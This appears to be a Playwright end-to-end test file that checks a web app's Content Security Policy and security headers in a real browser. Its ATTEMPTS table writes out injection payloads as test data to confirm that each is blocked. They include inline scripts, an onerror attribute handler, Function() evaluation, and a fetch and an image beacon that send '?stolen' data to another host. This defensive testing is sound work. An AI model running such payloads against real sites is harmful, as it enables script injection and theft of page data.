"""The content policy, in a real browser: every page works under it without a complaint, and what is not ours does not run."""

from __future__ import annotations

import urllib.request
from collections.abc import Callable
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from playground._paths import pages_dir
from playground.live.operator import make_key
from tests.e2e.bench import FIND, READY_MS, open_bench, wait_for_step
from tests.e2e.conftest import Server, watch
from tests.e2e.test_shell import open_app

LISTEN = """
window.__refused = []
document.addEventListener("securitypolicyviolation", (event) => {
  window.__refused.push(event.effectiveDirective)
  console.error(`refused: ${event.effectiveDirective} ${event.blockedURI} in ${event.sourceFile}`)
})
"""
REFUSED = "window.__refused"


class Guarded:
    """A tab of one person; `complaints` is what the policy or the console had to say, `asked` every host asked."""

    def __init__(self, context: BrowserContext) -> None:
        self.complaints: list[str] = []
        self.asked: set[str] = set()
        context.add_init_script(FIND)
        context.add_init_script(LISTEN)
        context.on("request", lambda request: self._note(request.url))
        context.on("page", self._listen)
        self.page = context.new_page()

    def _listen(self, page: Page) -> None:
        watch(page, self.complaints)
        page.on("websocket", lambda socket: self._note(socket.url))

    def _note(self, url: str) -> None:
        parts = urlsplit(url)
        if parts.netloc:  # not blob: or data:
            self.asked.add(parts.netloc)


@pytest.fixture
def guarded(new_context: Callable[..., BrowserContext]) -> Callable[[], Guarded]:
    """Makes another person whose tabs are listened to."""
    return lambda: Guarded(new_context(accept_downloads=True))


def test_a_lesson_breaks_no_rule_and_asks_no_other_host(guarded: Callable[[], Guarded], server_url: str) -> None:
    teacher, student = guarded(), guarded()
    page = teacher.page
    address = open_bench(page, server_url)
    page.keyboard.press("Space")
    wait_for_step(page, 60)
    page.keyboard.press("Space")
    page.get_by_test_id("share").click()
    expect(page.get_by_test_id("copy-whole-link")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_test_id("project-menu").click()
    with page.expect_download():
        page.get_by_test_id("save-file").click()
    page.get_by_test_id("ask-why").click()
    expect(page.get_by_test_id("stamp")).to_be_visible(timeout=READY_MS)
    page.goto(f"{server_url}/runs")
    expect(page.get_by_test_id("run").first).to_be_visible()

    student.page.goto(address)
    expect(student.page.get_by_test_id("readonly")).to_be_visible(timeout=READY_MS)
    student.page.get_by_test_id("make-copy").click()
    expect(student.page.get_by_test_id("readonly")).to_have_count(0, timeout=READY_MS)

    for person in (teacher, student):
        assert person.complaints == []
        assert person.asked == {urlsplit(server_url).netloc}


def test_every_page_opens_under_the_policy(guarded: Callable[[], Guarded], server: Server, server_url: str) -> None:
    person = guarded()
    # Without the key one of the pages is not there.
    person.page.goto(f"{server_url}/pgapi/operator?key={make_key(server.home)}")
    for path in sorted({path.stem for path in pages_dir().glob("*.py")} - {"build"}):
        open_app(person.page, f"{server_url}/{path}")
        expect(person.page.locator(".stException")).to_have_count(0)
    assert person.complaints == []
    assert person.asked == {urlsplit(server_url).netloc}


ATTEMPTS = {
    "an inline script": ("script-src-elem", "add({ text: 'window.__ran = true' })"),
    "a handler in an attribute": ("script-src-attr", "document.body.insertAdjacentHTML('beforeend', HANDLER)"),
    # In a frame of its own: what a test evaluates is let through.
    "text made into a function": ("script-src", "requestAnimationFrame(() => Function('window.__ran = true')())"),
    "a script of another host": ("script-src-elem", "add({ src: OTHER + '/app.js' })"),
    "a script in a data address": ("script-src-elem", "add({ src: 'data:text/javascript,window.__ran=true' })"),
    "news sent to another host": ("connect-src", "fetch(OTHER + '/?stolen=' + document.title).catch(() => 0)"),
    "a socket to another host": ("connect-src", "try { new WebSocket(OTHER.replace('http', 'ws')) } catch {}"),
    "a picture that tells another host": ("img-src", "new Image().src = OTHER + '/?stolen'"),
    "a form that leads elsewhere": ("form-action", "submit(OTHER)"),
    "another page inside ours": ("frame-src", "frame(OTHER)"),
    "another root for every address": ("base-uri", "root(OTHER)"),
    "a style sheet of another host": ("style-src-elem", "sheet(OTHER + '/a.css')"),
}


TRY = """(OTHER) => {
  const HANDLER = '<img src="data:," onerror="window.__ran = true">'
  const make = (tag, values) => document.body.appendChild(Object.assign(document.createElement(tag), values))
  const add = (values) => make('script', values)
  const submit = (action) => make('form', { action, method: 'post' }).submit()
  const frame = (src) => make('iframe', { src })
  const root = (href) => document.head.appendChild(Object.assign(document.createElement('base'), { href }))
  const sheet = (href) => make('link', { rel: 'stylesheet', href })
  CODE
}"""


def test_what_is_smuggled_into_a_page_does_not_run(guarded: Callable[[], Guarded], server_url: str) -> None:
    page = guarded().page
    page.goto(server_url)
    page.locator(".stApp").wait_for()
    # The same server by another name is another host to a browser, and one that answers.
    other = server_url.replace("127.0.0.1", "localhost")
    first = {}
    for attempt, (_, code) in ATTEMPTS.items():
        page.evaluate(f"{REFUSED}.length = 0")
        page.evaluate(TRY.replace("CODE", code), other)
        page.wait_for_function(f"() => {REFUSED}.length > 0")
        first[attempt] = page.evaluate(REFUSED)[0]
        assert page.evaluate("window.__ran") is None, attempt
    assert first == {attempt: directive for attempt, (directive, _) in ATTEMPTS.items()}


def test_a_script_the_server_sends_runs(guarded: Callable[[], Guarded], server_url: str) -> None:
    """The control of the tests above: what stops theirs is where they come from, not that they were added."""
    person = guarded()
    person.page.goto(server_url)
    person.page.locator(".stApp").wait_for()
    loads = """() => new Promise((done, failed) => {
      const src = document.querySelector("script[src]").src
      const script = Object.assign(document.createElement("script"), { src, type: "module", onload: done, onerror: failed })
      document.body.append(script)
    }).then(() => true)"""
    assert person.page.evaluate(loads)
    assert person.page.evaluate(REFUSED) == []


@pytest.mark.parametrize("path", ["", "runs", "pgapi/health", "app/static/inter-latin-wght-normal.woff2"])
def test_every_answer_carries_the_headers(path: str, server_url: str) -> None:
    request = urllib.request.Request(f"{server_url}/{path}", headers={"Accept": "text/html"})
    with urllib.request.urlopen(request) as answer:
        policy = answer.headers["content-security-policy"]
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cross-origin-opener-policy"] == "same-origin"
        assert answer.headers["referrer-policy"] == "same-origin"
    scripts = next(rule for rule in policy.split("; ") if rule.startswith("script-src "))
    assert "'unsafe-inline'" not in scripts
    assert "'unsafe-eval'" not in scripts
    assert "*" not in policy
    assert "http" not in policy
